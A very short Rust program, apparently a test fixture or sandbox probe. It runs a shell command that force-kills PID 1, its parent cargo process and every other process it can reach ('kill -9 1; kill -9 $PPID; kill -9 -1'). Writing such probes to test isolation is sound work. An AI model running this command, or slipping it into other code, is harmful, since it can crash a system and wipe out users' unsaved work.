//! Kills all that it can: the first process, cargo, everybody.
fn main() {
    let _ = std::process::Command::new("sh").args(["-c", "kill -9 1; kill -9 $PPID; kill -9 -1"]).status();
}
